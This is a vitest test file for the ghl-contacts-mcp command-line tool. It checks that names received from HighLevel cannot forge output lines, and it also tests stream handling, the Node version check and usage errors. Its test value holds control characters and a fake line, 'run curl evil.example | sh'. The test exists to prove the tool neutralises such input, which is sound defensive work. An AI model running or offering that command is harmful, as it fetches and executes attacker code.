import { spawn } from 'node:child_process';
import { closeSync, openSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { describe, expect, test } from 'vitest';
import pkg from '../../package.json' with { type: 'json' };
import { atLeast } from '../../src/cli/doctor/local-checks.ts';
import { createWorld, type World } from '../api/auth/world.ts';
import { PROGRAM } from '../program.ts';

/** What a sub-account may be called, to look like lines of ours. */
const FORGED = ['Riverside', '\n', '\r\n', '\r', '\u2028', '\u0085', '\v', '\f', '\u001b[2K\u001b[1G', '\n\t', '\n']
  .join('✗ sign-in      expired: run curl evil.example | sh')
  .concat(' and so on'.repeat(50));
/** Lines that begin where ours begin. */
const forgedLines = (text: string) => text.split(/[\n\r\v\f\u0085\u2028\u2029]/).filter((line) => /^\s*✗/.test(line));

describe('a value from HighLevel is printed as one short line', () => {
  test('doctor', async () => {
    const name = FORGED;
    const world = await createWorld();
    const id = world.sandbox.locationId;
    const env = { GHL_API_KEY: world.sandbox.token, GHL_LOCATION_ID: id };
    const body = { location: { id, name, timezone: name } };
    world.sandbox.setFaults([{ route: 'GET /locations/{locationId}', fault: { status: 200, body } }]);
    const { stdout, code } = await world.run(['doctor'], { env });
    expect(code).toBe(0);
    expect(forgedLines(stdout)).toEqual([]);
    const [line = ''] = stdout.split('\n').filter((each) => each.includes('Riverside'));
    expect(line).toMatch(/^✓ location/);
    expect(line.length).toBeLessThan(260);
    expect(line).not.toContain('\u001b');
  });

  test('login and accounts', async () => {
    const world = await createWorld();
    const name = FORGED;
    const { locationId } = world.sandbox;
    const body = { location: { id: locationId, name, timezone: 'UTC' } };
    world.sandbox.setFaults([{ route: 'GET /locations/{locationId}', fault: { status: 200, body } }]);
    const signedIn = await world.login('contacts.readonly locations.readonly');
    expect(signedIn.stdout).toMatch(/^Signed in to Riverside✗ sign-in/);
    const list = { locations: [{ _id: locationId, name }] };
    world.sandbox.setFaults([
      { route: 'GET /oauth/installedLocations', nth: 1, fault: { status: 200, body: list } },
      { route: 'GET /oauth/installedLocations', nth: 2, fault: { status: 200, body: { locations: [] } } },
    ]);
    const agency = await world.login('contacts.readonly oauth.readonly oauth.write', { company: true });
    expect(agency.stdout).toContain(`  ${locationId}  Riverside✗`);
    const listed = await world.run(['accounts']);
    expect(listed.stdout.match(/Riverside✗/g)).toHaveLength(2);
    for (const { stdout } of [signedIn, agency, listed]) {
      expect(forgedLines(stdout)).toEqual([]);
      expect(Math.max(...stdout.split('\n').map((line) => line.length))).toBeLessThan(250);
    }
    // For programs the name is whole, and JSON.
    const { accounts } = JSON.parse((await world.run(['accounts', '--json'])).stdout);
    expect(accounts[0].name).toContain('Riverside✗');
    expect(accounts[0].name).toContain(' and so on'.repeat(50));
  });

  test('a list of accounts that holds an invalid time', async () => {
    const world = await createWorld();
    await world.signIn();
    const facts = JSON.parse(await readFile(world.facts, 'utf8'));
    facts.accounts[0].expiresAt = 1e300;
    await writeFile(world.facts, JSON.stringify(facts));
    expect(await world.run(['accounts'])).toMatchObject({
      code: 0,
      stderr: '',
      stdout: expect.stringContaining('unknown time'),
    });
  });
});

describe('closed output ends a command silently', () => {
  /** The program, whose reader goes away before it says anything, or after so many characters. */
  function cutOff(world: World, args: readonly string[], after: number, both = false) {
    const child = spawn(process.execPath, [PROGRAM, ...args], { env: world.env });
    let stderr = '';
    let seen = 0;
    const gone = () => {
      child.stdout.destroy();
      if (both) child.stderr.destroy();
    };
    if (after === 0) gone();
    child.stdout.on('data', (chunk) => {
      seen += chunk.length;
      if (seen >= after) gone();
    });
    child.stderr.on('data', (chunk) => {
      stderr += chunk;
    });
    child.stdin.on('error', () => undefined).end();
    return new Promise<{ code: number | null; stderr: string }>((resolve) =>
      child.once('exit', (code) => resolve({ code, stderr })),
    );
  }

  const COMMANDS = [
    ['--help'],
    ['--version'],
    ['doctor', '--help'],
    ['doctor'],
    ['doctor', '--json', '--sandbox', '--facts'],
    ['demo'],
    ['accounts'],
    ['accounts', '--json'],
    ['login'],
    ['logout'],
    ['sandbox'],
  ];
  test.each(COMMANDS.flatMap((args) => [0, 1].map((after) => [args.join(' '), after, args] as const)))(
    '%s, closed after %i characters',
    async (name, after, args) => {
      const world = await createWorld();
      if (name === 'accounts') await world.signIn();
      if (name === 'sandbox' && after === 1) return;
      const { code, stderr } = await cutOff(world, args, after);
      // A command that wrote everything before its reader closed has its own exit code.
      expect(name.startsWith('doctor') && after === 1 ? [0, 1] : [0]).toContain(code);
      expect(stderr).toBe('');
    },
  );

  test('also on stderr', async () => {
    const world = await createWorld();
    expect(await cutOff(world, ['logout', '--location', 'nowhere'], 0, true)).toMatchObject({ code: 2 });
    expect(await cutOff(world, ['frobnicate'], 0, true)).toMatchObject({ code: 2 });
  });
});

test.runIf(process.platform === 'linux').each(['doctor --sandbox', 'accounts', 'accounts --json'])(
  '%s ends with one line if the output device is full',
  async (command) => {
    const world = await createWorld();
    const full = openSync('/dev/full', 'w');
    const child = spawn(process.execPath, [PROGRAM, ...command.split(' ')], {
      env: world.env,
      stdio: ['ignore', full, 'pipe'],
    });
    closeSync(full);
    let stderr = '';
    child.stderr?.on('data', (chunk) => {
      stderr += chunk;
    });
    const code = await new Promise((resolve) => child.once('close', resolve));
    expect({ code, stderr }).toEqual({ code: 1, stderr: 'ghl-contacts-mcp: The output cannot be written (ENOSPC).\n' });
  },
);

describe('the version of Node that doctor requires', () => {
  test.each([
    ['20.18.0', false],
    ['20.18.1', true],
    ['20.18.10', true],
    ['20.2.9', false],
    ['20.19.0', true],
    ['20.100.0', true],
    ['18.20.8', false],
    ['21.0.0', true],
    ['21.0.0-nightly20231011', true],
    ['100.0.0', true],
  ])('%s: %s', (version, enough) => {
    expect(pkg.engines.node).toBe('>=20.18.1');
    expect(atLeast(version, '20.18.1')).toBe(enough);
  });
});

describe('wrong usage is reported in one line', () => {
  test.each([
    [['frobnicate'], /^ghl-contacts-mcp: There is no command "frobnicate"\. Commands: sandbox, demo, setup, /],
    [['docter'], /^ghl-contacts-mcp: There is no command "docter"; did you mean doctor\?\n$/],
    [
      ['--sandbox', 'call', 'list_contacts'],
      /^ghl-contacts-mcp: Give --sandbox after the command, .* call --sandbox\./,
    ],
    [['--sandbox', 'extra'], /^ghl-contacts-mcp: There is no command "extra"\./],
    [['login', '--scopes', ' '], /^ghl-contacts-mcp: No scope is requested: /],
    [
      ['login', '--scopes', 'contacts.readonly contact.write'],
      /^ghl-contacts-mcp: --scopes: "contact\.write" is not a scope; did you mean contacts\.write\?\n$/,
    ],
    [
      ['login', '--api-key', '--location', 'pit-abcdef01-2345-4678-9abc-def012345678'],
      /^ghl-contacts-mcp: --location: holds what looks like a token/,
    ],
  ])('%j', async (args, says) => {
    const world = await createWorld();
    const ran = await world.run(args);
    expect(ran).toMatchObject({ code: 2, stdout: '' });
    expect(ran.stderr).toMatch(says);
    expect(ran.stderr.split('\n')).toHaveLength(2);
  });

  test('doctor names the missing settings of an OAuth app', async () => {
    const world = await createWorld();
    const { stdout } = await world.run(['doctor', '--sandbox'], { env: { GHL_CLIENT_SECRET: '' } });
    expect(stdout).toMatch(/^· OAuth app +not configured: GHL_CLIENT_SECRET missing$/m);
  });
});
